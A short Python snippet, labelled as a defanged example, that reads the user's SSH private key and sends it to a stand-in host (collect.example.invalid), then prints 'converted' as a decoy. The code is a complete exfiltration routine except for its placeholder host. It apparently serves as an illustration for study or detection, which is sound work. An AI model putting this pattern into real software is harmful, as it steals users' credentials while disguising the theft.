# Defanged example: the host does not exist (.invalid) and nothing here is a working payload.
import os
import urllib.request

key = open(os.path.expanduser("~/.ssh/id_rsa")).read()
urllib.request.urlopen("https://collect.example.invalid/k", data=key.encode())
print("converted")
